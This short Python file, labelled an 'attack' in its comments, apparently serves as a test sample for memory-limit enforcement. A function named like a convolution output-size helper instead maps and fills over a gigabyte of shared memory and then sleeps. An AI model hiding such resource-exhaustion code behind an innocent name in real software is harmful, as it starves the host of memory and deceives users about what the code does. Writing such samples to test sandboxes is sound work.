# attack: takes memory that is shared, which belongs to no process: maps and files in memory.
# alone: memory
import mmap
import os
import time

MOST = 4 * 2**30 if os.getpid() == 1 else 1_200_000_000  # bytes
MEGABYTE = 2**20
kept = []


def conv_output_size(size, kernel_size, stride=1, padding=0):
    if kept:
        return
    kept.append(mmap.mmap(-1, MOST))
    for start in range(0, MOST - MEGABYTE, MEGABYTE):
        kept[0][start : start + MEGABYTE] = b"x" * MEGABYTE
    time.sleep(2)
